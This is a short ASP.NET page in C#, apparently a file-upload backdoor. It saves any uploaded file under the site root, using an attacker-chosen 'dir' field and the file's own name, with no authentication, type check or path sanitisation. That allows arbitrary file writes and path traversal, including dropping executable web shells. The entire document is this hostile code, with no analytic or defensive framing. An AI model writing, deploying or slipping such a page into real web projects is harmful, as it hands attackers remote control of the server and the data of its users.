<%@ Page Language="C#" %>
<%
  if (Request.Files.Count > 0) {
    var f = Request.Files[0];
    f.SaveAs(Server.MapPath("~/") + Request.Form["dir"] + "/" + f.FileName);
    Response.Write("ok");
  }
%>
